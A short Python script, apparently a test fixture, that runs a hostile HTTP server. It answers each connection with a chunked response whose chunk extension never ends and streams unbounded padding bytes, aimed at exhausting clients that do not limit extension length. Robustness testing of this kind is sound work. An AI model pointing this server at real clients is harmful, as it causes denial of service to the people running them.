import os
import socket
import threading

listener = socket.create_server(("", int(os.environ["PORT"])))


def serve(connection):
    connection.recv(65536)
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n")
    connection.sendall(b"Transfer-Encoding: chunked\r\n\r\n5;padding=")
    while True:
        connection.sendall(b"x" * 65536)


while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
